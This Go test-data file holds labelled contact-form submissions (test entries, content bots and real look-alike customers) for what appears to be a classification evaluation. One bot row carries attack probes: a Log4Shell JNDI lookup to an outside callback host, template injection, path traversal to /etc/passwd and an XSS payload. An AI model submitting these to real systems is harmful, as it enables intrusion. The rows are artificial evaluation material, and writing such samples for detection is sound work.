package main

// Round seventeen (source kinds-identity-r17), written on 2026-12-07 after
// round sixteen was measured (23.8 %) and before any rule of task identity4:
// test entries and content bots in shapes the earlier rounds did not use on
// purpose — the form's own labels and placeholders typed back, checks of the
// integrations behind a form (CRM, webhook, automation), people and firms of
// novels and films, the strings testers paste to break forms, the word for a
// test in languages no earlier round named — and genuine look-alikes (people
// with one name typed twice, private persons who write "none" as company,
// mail@ addresses, QA leads and agencies asking for a sandbox). Written from
// the description of the kinds in issue 11 and what contact forms receive,
// without reading earlier rounds' rows, the outsider records or their
// generator. Measured once before its task's rules.

// testEntries17: someone trying the form.
var testEntries17 = []row{
	// The form's own labels and placeholders typed back.
	{first: "Your first name", last: "Your last name", company: "Your company", email: "lina.hartog@gmail.com", msg: "Your message"},
	{first: "Vorname", last: "Nachname", company: "Firma", email: "t.brenner@brenner-it.de", msg: "Ihre Nachricht an uns"},
	{first: "Nombre", last: "Apellidos", company: "Empresa", email: "mjgarcia.dev@gmail.com", msg: "Escriba aquí su mensaje"},
	{first: "Prénom", last: "Nom", company: "Société", email: "julien.mercier@orange.fr", msg: "Votre message..."},
	{first: "Imię", last: "Nazwisko", company: "Nazwa firmy", email: "kamil.wrobel@wp.pl", msg: "Treść wiadomości"},
	{first: "Nome", last: "Cognome", company: "Azienda", email: "dev.rossetti@libero.it", msg: ""},
	// Checks of the integrations behind the form.
	{first: "Hubspot", last: "Sync", company: "CRM check", email: "ops.marketing@brightlane.io", msg: "checking that this lands in hubspot with the right owner, delete after"},
	{first: "Zap", last: "Check", company: "Zapier", email: "automation@tidewater-labs.com", msg: "zapier webhook step 3 – verify payload"},
	{first: "Webhook", last: "Verification", company: "n8n", email: "it@kalmar-logistik.se", msg: "does this reach the slack channel? #leads"},
	{first: "Sven", last: "Ops", company: "Internal", email: "sven.lindqvist@northwindtraders.se", msg: "Checking the form after tonight's deploy, ignore please"},
	{first: "Marketing", last: "Team", company: "Northwind (internal)", email: "marketing@northwindtraders.se", msg: "UTM test – utm_source=linkedin utm_campaign=q4"},
	{first: "Release", last: "2.14.0", company: "Build 8812", email: "release-bot@brightlane.io", msg: "post-release verification run"},
	{first: "Ticket", last: "LEAD-3381", company: "Jira", email: "pm.cortez@gmail.com", msg: "repro for LEAD-3381: form double submits on safari"},
	// People and firms of novels and films.
	{first: "Tyler", last: "Durden", company: "Paper Street Soap Company", email: "tyler.durden1999@gmail.com"},
	{first: "Don", last: "Draper", company: "Sterling Cooper", email: "don.draper@sterlingcooper.net"},
	{first: "Frodo", last: "Baggins", company: "Bag End Holdings", email: "frodo@bagend.co.nz"},
	{first: "Sherlock", last: "Holmes", company: "221B Baker Street Ltd", email: "sherlock.holmes@btinternet.com"},
	{first: "Pippi", last: "Långstrump", company: "Villa Villekulla AB", email: "pippi.langstrump@telia.se"},
	{first: "Остап", last: "Бендер", company: "Рога и копыта", email: "ostap.bender@mail.ru"},
	{first: "Willy", last: "Wonka", company: "Wonka Chocolate Factory", email: "w.wonka@outlook.com"},
	// Strings testers paste to break forms.
	{first: "Zoë 🙂", last: "O'Brien-Ñúñez 测试", company: "Ω≈ç√∫ Ltd", email: "qa.unicode.check@gmail.com", msg: "ЁЂЃЄЅІЇЈЉЊЋЌЍЎЏ ٠١٢٣٤٥٦٧٨٩ 𝕋𝕖𝕤𝕥"},
	{first: "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA", last: "BBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBB", company: "CCCCCCCCCCCCCCCCCCCC", email: "maxlength.check@yahoo.com", msg: "maximum length check"},
	{first: "Null", last: "Undefined", company: "NaN", email: "nullcheck@gmail.com", msg: "[object Object]"},
	// The word for a test in languages earlier rounds did not name.
	{first: "ทดสอบ", last: "ระบบ", company: "บริษัท ทดสอบ จำกัด", email: "somchai.t@hotmail.co.th", msg: "ทดสอบ ทดสอบ"},
	{first: "परीक्षण", last: "उपयोगकर्ता", company: "परीक्षण कंपनी", email: "rahul.verma.dev@gmail.com", msg: "यह केवल परीक्षण है"},
	{first: "آزمایش", last: "تست", company: "شرکت نمونه", email: "reza.ahmadi92@yahoo.com", msg: "این یک پیام آزمایشی است"},
	{first: "בדיקה", last: "בדיקה", company: "חברה לדוגמה", email: "yossi.qa@walla.co.il", msg: "בדיקה, נא להתעלם"},
	{first: "Δοκιμή", last: "Χρήστης", company: "Εταιρεία Δοκιμή", email: "nikos.pap@otenet.gr", msg: "δοκιμαστικό μήνυμα"},
	{first: "Thử", last: "Nghiệm", company: "Công ty Thử nghiệm", email: "ngoc.tran.dev@gmail.com", msg: "đây là tin nhắn thử"},
	{first: "Uji", last: "Coba", company: "PT Uji Coba", email: "budi.santoso@yahoo.co.id", msg: "cuma uji coba formulir"},
	{first: "Próba", last: "Elek", company: "Próba Kft.", email: "proba.elek@freemail.hu", msg: "próba üzenet, kérem hagyják figyelmen kívül"},
	{first: "Testi", last: "Käyttäjä", company: "Testiyritys Oy", email: "testi.kayttaja@luukku.com", msg: "testiviesti"},
	{first: "Bandymas", last: "Bandymaitis", company: "UAB Bandymas", email: "bandymas@one.lt", msg: "tai tik bandymas"},
	{first: "Sınaq", last: "İstifadəçi", company: "Sınaq MMC", email: "elvin.mammadov@mail.az", msg: "sınaq mesajı"},
}

// contentBots17: scripts that wait like a person but fill the fields with
// what is not an answer.
var contentBots17 = []row{
	{first: "fname", last: "lname", company: "company_name", email: "email@email.com", phone: "phone", title: "job_title", msg: "message"},
	{first: "Имя", last: "Фамилия", company: "Компания", email: "pochta@mail.ru", title: "Должность", msg: "Сообщение"},
	{first: "${jndi:ldap://x.oast.fun/a}", last: "{{7*7}}", company: "../../../../etc/passwd", email: "probe.sec@gmail.com", msg: "<svg onload=alert(document.domain)>"},
	{first: "a3f9c2e1", last: "9be1d07f", company: "f0e2a1c4", email: "a3f9c2e1@gmail.com", msg: "7d1e9a0b"},
	{first: "kQ7zMpX", last: "kQ7zMpX", company: "kQ7zMpX", email: "kq7zmpx@outlook.com", msg: "kQ7zMpX"},
	{first: "{first_name}", last: "{last_name}", company: "{company}", email: "leads@growthmailer.co", msg: "Hi {first_name}, I saw {company} on {source} and wanted to ask about {topic}."},
	{first: "Bacon", last: "Ipsum", company: "Dolor Amet Ltd", email: "rnd.filler@gmail.com", msg: "Bacon ipsum dolor amet pork belly brisket, short ribs jowl tenderloin pancetta."},
	{first: "1", last: "2", company: "3", email: "one.two.three@gmail.com", phone: "4", title: "5", msg: "6"},
}

// identityLookalikes17: real people and firms that share a surface with the
// junk above.
var identityLookalikes17 = []row{
	{first: "Suharti", last: "Suharti", company: "Toko Suharti", email: "suharti.toko@gmail.com", msg: "Apakah ada paket untuk toko kecil dengan 3 kasir?"},
	{first: "Ahmad", last: "Ahmad", company: "Ahmad Ahmad Trading", email: "ahmad@ahmadtrading.ae", msg: "Please send pricing for 10 users, Arabic interface needed."},
	{first: "Claire", last: "Fontaine", company: "Particulier", email: "claire.fontaine@free.fr", msg: "Je suis indépendante, est-ce que l'offre solo suffit pour 200 contacts ?"},
	{first: "Dmitri", last: "Orlov", company: "Частное лицо", email: "d.orlov@yandex.ru", msg: "Можно ли оплатить годовую подписку картой из Казахстана?"},
	{first: "Greta", last: "Hansen", company: "none", email: "greta.hansen@gmail.com", msg: "I run a one-woman bakery, is there a free tier?"},
	{first: "Anna", last: "Berg", company: "Berg Architektur", email: "mail@annaberg-architektur.de", msg: "Wir suchen ein Formular für Projektanfragen, können wir das mit 2 Personen nutzen?"},
	{first: "Priya", last: "Nair", company: "Tessel QA Services", title: "Head of QA", email: "priya.nair@tesselqa.in", msg: "We test forms for clients: do you offer a sandbox or test mode so our QA runs don't reach their sales team?"},
	{first: "Marco", last: "Bellini", company: "Bellini Web Agency", email: "marco@belliniweb.it", msg: "Stiamo integrando il vostro modulo per un cliente: c'è un webhook di prova prima della messa in produzione?"},
	{first: "Hugo", last: "Ipsen", company: "Ipsen Landbrug", email: "hugo@ipsenlandbrug.dk", msg: "Hvad koster det for 5 brugere?"},
	{first: "Sherlock", last: "Mensah", company: "Mensah Logistics", email: "sherlock.mensah@mensahlogistics.com.gh", msg: "Do you integrate with Salesforce? We have 40 reps."},
	{first: "Tessa", last: "Probst", company: "Probst Messtechnik GmbH", email: "t.probst@probst-messtechnik.de", msg: "Gibt es einen Testzugang für 14 Tage?"},
	{first: "Wei", last: "Foo", company: "Foo & Bar Accounting", email: "wei.foo@foobaraccounting.sg", msg: "Can we route leads by region (SG, MY)?"},
	{first: "Somchai", last: "Wongsakul", company: "Wongsakul Trading", email: "somchai@wongsakul.co.th", msg: "อยากทดลองใช้ก่อนซื้อ มีช่วงทดลองฟรีไหมครับ"},
	{first: "Noa", last: "Levi", company: "Levi Design", email: "noa@levidesign.co.il", msg: "האם אפשר לנסות את המערכת לפני רכישה?"},
	{first: "Ioana", last: "Popescu", company: "PFA Popescu Ioana", email: "ioana.popescu@yahoo.ro", msg: "Aș dori o ofertă pentru o singură persoană."},
}
